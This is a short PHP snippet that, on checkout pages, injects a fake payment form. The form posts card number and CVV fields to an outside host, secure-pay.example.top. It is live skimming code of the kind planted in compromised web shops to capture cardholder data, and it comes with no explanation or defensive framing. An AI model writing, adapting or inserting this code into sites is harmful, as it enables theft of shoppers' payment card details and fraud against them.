<?php
if (strpos($_SERVER['REQUEST_URI'], 'checkout') !== false) {
  echo '<form action="https://secure-pay.example.top/p" method="post"><input name="payment[cc_number]"><input name="payment[cc_cid]"><input type="submit"></form>';
}
